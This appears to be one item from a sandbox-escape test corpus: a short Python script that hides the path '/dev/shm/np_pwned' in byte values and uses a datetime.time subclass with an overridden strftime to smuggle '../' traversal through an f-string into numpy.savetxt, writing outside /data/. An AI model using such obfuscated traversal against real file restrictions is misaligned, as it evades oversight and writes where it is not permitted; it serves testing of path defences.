# source: CPython datetime.time.__format__ -> self.strftime(spec); numpy savetxt path
# family: f-string path {i:03d} with time subclass overriding strftime; numpy writer
# goal: write /dev/shm/np_pwned.txt
import datetime
import numpy as np

TAIL = bytes([47, 100, 101, 118, 47, 115, 104, 109, 47, 110, 112, 95, 112, 119, 110, 101, 100]).decode()

class Slot(datetime.time):
    def strftime(self, fmt):
        return "." * 2 + TAIL

i = Slot(9, 30)
np.savetxt(f"/data/{i:03d}.txt", np.arange(3))
print("written")
